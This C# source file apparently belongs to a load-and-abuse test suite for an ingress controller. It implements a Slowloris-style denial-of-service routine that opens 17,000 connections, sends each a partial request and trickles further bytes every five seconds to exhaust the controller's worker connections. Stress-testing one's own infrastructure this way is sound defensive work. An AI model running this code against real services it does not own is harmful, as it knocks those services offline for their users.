using IngressController.Load.Abuse.Tools;

namespace IngressController.Load.Abuse.Attacks;

/// <summary>More connections than max-worker-connections has places, each with the beginning of something.</summary>
static class Waiting
{
    const int Clients = 17_000;

    /// <param name="place">Where.</param>
    /// <param name="port">Of the controller.</param>
    /// <param name="beginning">What each sends at first.</param>
    /// <param name="further">What each sends every five seconds; null: nothing.</param>
    /// <param name="end">Ends all.</param>
    public static Task RunAsync(AttackPlace place, int port, byte[] beginning, byte[]? further, CancellationToken end) =>
        Crowd.RunAsync(Clients, place.Tally, async (_, stop) =>
        {
            await using var stream = await place.ConnectAsync(port, stop);
            await stream.WriteAsync(beginning, stop);
            using var closed = CancellationTokenSource.CreateLinkedTokenSource(stop);
            var trickling = further is null ? Task.CompletedTask : TrickleAsync(stream, further, closed.Token);
            try
            {
                await RawHttp.DrainAsync(stream, stop);
                place.Tally.Add("closed by the controller");
            }
            finally
            {
                await closed.CancelAsync();
                await trickling;
            }
        }, end);

    static async Task TrickleAsync(Stream stream, byte[] octets, CancellationToken end)
    {
        try
        {
            while (true)
            {
                await Task.Delay(TimeSpan.FromSeconds(5), end);
                await stream.WriteAsync(octets, end);
            }
        }
        catch (Exception error) when (error is OperationCanceledException or IOException)
        {
            // It was closed.
        }
    }
}
